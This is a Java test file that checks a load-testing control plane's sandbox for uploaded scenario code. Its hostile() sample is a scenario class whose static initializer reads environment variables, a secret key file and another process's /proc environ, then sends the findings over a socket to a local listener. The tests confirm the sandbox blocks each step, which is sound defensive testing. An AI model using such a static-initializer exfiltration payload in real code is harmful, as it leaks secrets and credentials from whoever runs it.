package dev.barrage.controlplane.scenarios;

import static org.assertj.core.api.Assertions.assertThat;

import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;

/**
 * The upload check's sandbox played against: a static initializer that reads the environment, the control plane's
 * secret files and process, and sends what it found to a local listener. The hosted rules are turned off here, so
 * that nothing but the sandbox stands in its way: it reads nothing, and the listener sees no connection.
 */
@QuarkusTest
class CheckSandboxTest {
    @Inject
    LocalCheckSandbox sandbox;

    @Inject
    DependencyResolver resolver;

    /** Counts the connections it accepts, and keeps what was sent. */
    static final class Listener implements AutoCloseable {
        final ServerSocket server;
        final AtomicInteger connections = new AtomicInteger();
        final StringBuffer received = new StringBuffer();

        Listener() throws IOException {
            server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
            Thread.ofVirtual().start(() -> {
                while (!server.isClosed()) {
                    try (Socket s = server.accept()) {
                        connections.incrementAndGet();
                        received.append(new String(s.getInputStream().readAllBytes()));
                    } catch (IOException e) {
                        // closed
                    }
                }
            });
        }

        int port() {
            return server.getLocalPort();
        }

        @Override
        public void close() throws IOException {
            server.close();
        }
    }

    static String hostile(String secretFile, int port) {
        return """
                import dev.barrage.scenario.*;
                import java.nio.file.*;
                public class Exfiltrate extends HttpUser {
                    static {
                        StringBuilder seen = new StringBuilder("env=" + System.getenv());
                        try { seen.append(" secret=").append(Files.readString(Path.of("%s"))); }
                        catch (Exception e) { seen.append(" secret refused: ").append(e.getClass().getSimpleName()); }
                        try { seen.append(" control plane environ=").append(Files.readString(Path.of("/proc/%d/environ"))); }
                        catch (Exception e) { seen.append(" control plane environ refused: ").append(e.getClass().getSimpleName()); }
                        seen.append(" processes=").append(ProcessHandle.allProcesses().count());
                        try (java.net.Socket s = new java.net.Socket("127.0.0.1", %d)) {
                            s.getOutputStream().write(seen.toString().getBytes());
                            seen.append(" sent");
                        } catch (Exception e) { seen.append(" socket refused: ").append(e.getMessage()); }
                        System.out.println("SEEN " + seen);
                    }
                    @Task void a() { client.get("/").send(); }
                }
                """.formatted(secretFile, ProcessHandle.current().pid(), port);
    }

    @Test
    void aStaticInitializerInTheCheckReachesNoSecretNoProcessAndNoListener() throws Exception {
        // a secret as the control plane keeps one: a file only its user may read, in a folder anyone may enter
        Path dir = Files.createTempDirectory("barrage-secret-");
        Files.setPosixFilePermissions(dir, PosixFilePermissions.fromString("rwxr-xr-x"));
        Path secret = dir.resolve("secrets.key");
        Files.writeString(secret, "the-secrets-key");
        Files.setPosixFilePermissions(secret, PosixFilePermissions.fromString("rw-------"));
        assertThat(Files.readString(secret)).as("readable by the control plane's user").isEqualTo("the-secrets-key");
        try (Listener listener = new Listener()) {
            CheckSandbox.Outcome outcome = sandbox.run(new CheckSandbox.Input("Exfiltrate.java", hostile(secret.toString(),
                    listener.port()), Map.of(), List.of(), "128m", false), 60_000);

            assertThat(outcome.exitCode()).as(outcome.output()).isZero();
            String seen = outcome.output().lines().filter(l -> l.startsWith("SEEN ")).findFirst().orElseThrow();
            assertThat(seen).contains("env={}")
                    .contains("secret refused: AccessDeniedException")
                    .contains("control plane environ refused: NoSuchFileException")
                    .contains("socket refused: Network is unreachable")
                    .doesNotContain("the-secrets-key").doesNotContain(" sent");
            // the check's own JVM and nothing else: not the control plane, not another check
            assertThat(seen).containsPattern("processes=[12] ");
            assertThat(listener.connections.get()).isZero();
        } finally {
            LocalCheckSandbox.delete(dir);
        }
    }

    @Test
    void theSameScenarioOutsideTheSandboxReachesTheListener() throws Exception {
        // the control: run as this process, the same scenario connects, so the first test's zero means something
        try (Listener listener = new Listener()) {
            Path src = Files.createTempDirectory("barrage-unsandboxed-");
            Path file = src.resolve("Exfiltrate.java");
            Files.writeString(file, hostile("/nonexistent", listener.port()));
            Process p = new ProcessBuilder(ScenarioChecker.javaExecutable(), "-jar", sandbox.runnerJar().toString(),
                    "check", "-f", file.toString()).redirectErrorStream(true).start();
            String out = new String(p.getInputStream().readAllBytes());
            assertThat(p.waitFor()).as(out).isZero();
            assertThat(out).contains(" sent");
            LocalCheckSandbox.delete(src);
            for (int i = 0; i < 100 && listener.connections.get() == 0; i++) {
                Thread.sleep(20);
            }
            assertThat(listener.connections.get()).isEqualTo(1);
        }
    }

    @Test
    void dependenciesAreResolvedOutsideAndReadInsideTheSandboxWithoutNetwork() throws Exception {
        String source = """
                //DEPS redis.clients:jedis:5.2.0
                import dev.barrage.scenario.*;
                public class WithDeps extends HttpUser {
                    // loaded and run by the static initializer, inside the sandbox
                    static final int PORT = new redis.clients.jedis.HostAndPort("localhost", 6379).getPort();
                    @Task void a() { client.get("/").send(); }
                }
                """;
        Path work = Files.createTempDirectory("barrage-resolve-test-");
        try {
            DependencyResolver.Resolution deps = resolver.resolve("WithDeps.java", source, work, 60_000);
            assertThat(deps.failure()).isNull();
            assertThat(deps.jars()).anyMatch(j -> j.getFileName().toString().equals("jedis-5.2.0.jar"));
            CheckSandbox.Outcome outcome = sandbox.run(new CheckSandbox.Input("WithDeps.java", source, Map.of(),
                    deps.jars(), "128m"), 60_000);
            assertThat(outcome.exitCode()).as(outcome.output()).isZero();
            assertThat(outcome.output()).contains("ok: WithDeps");
        } finally {
            LocalCheckSandbox.delete(work);
        }
    }

    @Test
    void theSandboxSaysWhatItCannotRead() throws Exception {
        Path dir = Files.createTempDirectory("barrage-unreadable-");
        try {
            Path jar = Files.writeString(dir.resolve("runner.jar"), "x");
            Files.setPosixFilePermissions(jar, PosixFilePermissions.fromString("rw-------"));
            String why = new dev.barrage.controlplane.sandbox.Sandbox(64100, 64100,
                    dev.barrage.controlplane.sandbox.Sandbox.Network.NONE).unavailable(List.of(jar));
            assertThat(why).contains("uid 64100 cannot read " + jar).contains("make it and its folders readable");
        } finally {
            LocalCheckSandbox.delete(dir);
        }
    }
}
